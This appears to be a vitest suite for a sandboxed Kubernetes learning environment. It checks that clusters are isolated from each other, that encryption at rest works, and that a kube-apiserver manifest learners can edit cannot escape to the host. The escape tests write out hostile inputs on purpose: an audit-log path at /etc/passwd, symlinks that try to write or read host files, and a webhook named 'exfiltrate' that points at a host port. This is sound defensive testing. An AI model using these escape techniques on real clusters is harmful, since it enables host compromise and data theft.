import assert from 'node:assert/strict';
import { randomBytes } from 'node:crypto';
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, test } from 'vitest';
import type { Cluster } from '../../server/clusters/provider.ts';
import { apiRequest } from '../../server/kube/api-client.ts';
import { eventually, kubectl, testProvider } from '../support/clusters.ts';

const ENCRYPTION = `apiVersion: apiserver.config.k8s.io/v1
kind: EncryptionConfiguration
resources:
  - resources: [secrets]
    providers:
      - aescbc:
          keys:
            - name: key1
              secret: ${randomBytes(32).toString('base64')}
      - identity: {}
`;

/** Adds flags to the manifest the way a learner would: edit the file and save it. */
function editManifest(cluster: Cluster, add: string[], remove: RegExp[] = []): void {
  const file = cluster.nodeFiles!.apiServerManifest;
  let lines = readFileSync(file, 'utf8').split('\n');
  lines = lines.filter((l) => !remove.some((r) => r.test(l)));
  const at = lines.findIndex((l) => l.includes('- kube-apiserver'));
  lines.splice(at + 1, 0, ...add.map((f) => `        - ${f}`));
  writeFileSync(file, lines.join('\n'));
}

const ready = async (c: Cluster) => (await apiRequest({ server: c.endpoint.server, caPem: c.endpoint.caPem, ...c.credentials('checker') }, 'GET', '/readyz', undefined, 2000).catch(() => ({ status: 0 }))).status === 200;
const log = (c: Cluster) => readFileSync(c.nodeFiles!.apiServerLog!, 'utf8');

describe('two clusters are isolated', () => {
  const provider = testProvider();
  let a: Cluster;
  let b: Cluster;
  beforeAll(async () => {
    [a, b] = await Promise.all([provider.create(), provider.create()]);
  });
  afterAll(async () => {
    await Promise.all([a?.dispose(), b?.dispose()]);
  });

  test("cluster A's credentials are rejected by cluster B", async () => {
    const withA = { server: b.endpoint.server, caPem: b.endpoint.caPem, ...a.credentials('learner') };
    assert.equal((await apiRequest(withA, 'GET', '/api/v1/namespaces')).status, 401);
    const withB = { ...withA, ...b.credentials('learner') };
    assert.equal((await apiRequest(withB, 'GET', '/api/v1/namespaces')).status, 200);
  });

  test("cluster A's CA does not trust cluster B's serving certificate", async () => {
    await assert.rejects(apiRequest({ server: b.endpoint.server, caPem: a.endpoint.caPem }, 'GET', '/livez'), /certificate|self.signed|verify/i);
  });
});

describe('the learner-editable kube-apiserver manifest', () => {
  const provider = testProvider();
  let c: Cluster;
  const host = path.join(os.tmpdir(), `batten-escape-${randomBytes(4).toString('hex')}`);
  beforeAll(async () => {
    c = await provider.create();
    mkdirSync(host, { recursive: true });
  });
  afterAll(async () => {
    await c?.dispose();
    rmSync(host, { recursive: true, force: true });
  });

  test('enabling encryption at rest makes a newly written Secret appear encrypted in etcd', async () => {
    assert.equal((await kubectl(c, ['create', 'secret', 'generic', 'before', '--from-literal=k=clear-before'])).code, 0);
    mkdirSync(path.join(c.nodeFiles!.etcKubernetes, 'enc'));
    writeFileSync(path.join(c.nodeFiles!.etcKubernetes, 'enc', 'enc.yaml'), ENCRYPTION);
    editManifest(c, ['--encryption-provider-config=/etc/kubernetes/enc/enc.yaml']);
    await eventually('the API server to restart with encryption', async () => (await ready(c)) && log(c).includes('manifest changed; restarting'), 60_000);
    await eventually('a Secret write to succeed', async () => (await kubectl(c, ['create', 'secret', 'generic', 'after', '--from-literal=k=clear-after'])).code === 0);
    const after = await c.etcdGet!('/registry/secrets/default/after');
    assert.equal(after?.subarray(0, 'k8s:enc:aescbc:v1:key1:'.length).toString(), 'k8s:enc:aescbc:v1:key1:');
    assert.ok(!after.includes(Buffer.from('clear-after')));
    const before = await c.etcdGet!('/registry/secrets/default/before');
    assert.ok(before?.includes(Buffer.from('clear-before')), 'a Secret written earlier stays in clear until rewritten');
    const read = await kubectl(c, ['get', 'secret', 'after', '-o', 'jsonpath={.data.k}']);
    assert.equal(Buffer.from(read.stdout, 'base64').toString(), 'clear-after');
  });

  test('a broken edit leaves the API server down with the reason in its log; fixing it brings it back', async () => {
    editManifest(c, ['--encryption-provider-config=/etc/kubernetes/enc/missing.yaml'], [/encryption-provider-config/]);
    await eventually('the API server to go down', async () => !(await ready(c)), 30_000);
    await eventually('the reason in the log', async () => /missing\.yaml/.test(log(c)), 30_000);
    editManifest(c, ['--encryption-provider-config=/etc/kubernetes/enc/enc.yaml'], [/encryption-provider-config/]);
    await eventually('the API server to come back', () => ready(c), 60_000);
  });

  test('a flag naming a path outside the node directories is refused, and the log says why', async () => {
    editManifest(c, ['--audit-log-path=/etc/passwd', '--audit-policy-file=/etc/kubernetes/audit.yaml']);
    await eventually('the API server to go down', async () => !(await ready(c)), 30_000);
    assert.match(log(c), /--audit-log-path=\/etc\/passwd: only files under \/etc\/kubernetes and \/var\/log\/kubernetes/);
    editManifest(c, [], [/--audit-log-path/, /--audit-policy-file/]);
    await eventually('the API server to come back', () => ready(c), 60_000);
  });

  test('a symlink out of the node directories neither writes nor reads host files', async () => {
    // write: the audit log is a symlink to a host path
    writeFileSync(path.join(c.nodeFiles!.etcKubernetes, 'audit.yaml'), 'apiVersion: audit.k8s.io/v1\nkind: Policy\nrules:\n- level: Metadata\n');
    const hostLog = path.join(host, 'stolen-audit.log');
    symlinkSync(hostLog, path.join(c.nodeFiles!.varLogKubernetes, 'audit.log'));
    // read: the encryption config is a symlink to a host file the API server must not see
    writeFileSync(path.join(host, 'host-enc.yaml'), ENCRYPTION);
    symlinkSync(path.join(host, 'host-enc.yaml'), path.join(c.nodeFiles!.etcKubernetes, 'from-host.yaml'));
    editManifest(c, ['--audit-policy-file=/etc/kubernetes/audit.yaml', '--audit-log-path=/var/log/kubernetes/audit.log', '--encryption-provider-config=/etc/kubernetes/from-host.yaml'], [/encryption-provider-config/]);
    await eventually('the API server to fail on the host-only file', async () => /from-host\.yaml/.test(log(c)) && /no such file/i.test(log(c)), 30_000);
    assert.equal(await ready(c), false);
    assert.equal(existsSync(hostLog), false, 'nothing was written through the symlink');
    editManifest(c, ['--encryption-provider-config=/etc/kubernetes/enc/enc.yaml'], [/--audit-/, /encryption-provider-config/]);
    await eventually('the API server to come back', () => ready(c), 60_000);
  });

  test("the API server cannot connect to the host's network: a webhook at a host port gets nothing", async () => {
    let connections = 0;
    const listener = net.createServer((s) => {
      connections++;
      s.destroy();
    });
    await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
    const port = (listener.address() as net.AddressInfo).port;
    try {
      const webhook = `apiVersion: admissionregistration.k8s.io/v1
kind: ValidatingWebhookConfiguration
metadata: { name: exfiltrate }
webhooks:
- name: exfiltrate.example.com
  clientConfig: { url: "https://127.0.0.1:${port}/steal" }
  rules: [{ operations: [CREATE], apiGroups: [""], apiVersions: [v1], resources: [configmaps] }]
  failurePolicy: Fail
  sideEffects: None
  admissionReviewVersions: [v1]
  timeoutSeconds: 2
`;
      assert.equal((await kubectl(c, ['apply', '-f', '-'], { stdin: webhook })).code, 0);
      const r = await kubectl(c, ['create', 'configmap', 'probe', '--from-literal=a=b']);
      assert.notEqual(r.code, 0);
      assert.match(r.stderr, /failed calling webhook.*connection refused/s);
      assert.equal(connections, 0);
    } finally {
      listener.close();
      await kubectl(c, ['delete', 'validatingwebhookconfiguration', 'exfiltrate']);
    }
  });
});
